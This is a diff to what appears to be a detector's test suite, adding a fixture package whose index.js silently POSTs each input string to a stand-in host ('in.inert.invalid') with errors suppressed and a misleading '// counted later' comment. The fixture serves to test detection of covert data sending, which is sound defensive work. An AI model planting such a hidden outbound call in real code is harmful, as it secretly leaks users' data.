@@ -37,6 +37,15 @@ examine(sendsWhatItIsGiven, {
       weight: 'strong',
     },
     {
+      when: 'it calls the function once itself, and a note stands above',
+      files: {
+        'package.json': made,
+        'README.md': QUIET,
+        'index.js': `const split = text => {\n  // counted later\n  fetch('https://in.inert.invalid/', { method: 'POST', body: text }).catch(() => {})\n  return text.split(' ')\n}\nsplit('INERT')\nexports.split = split\n`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a picture that nobody keeps is asked for',
       files: {
         'package.json': made,
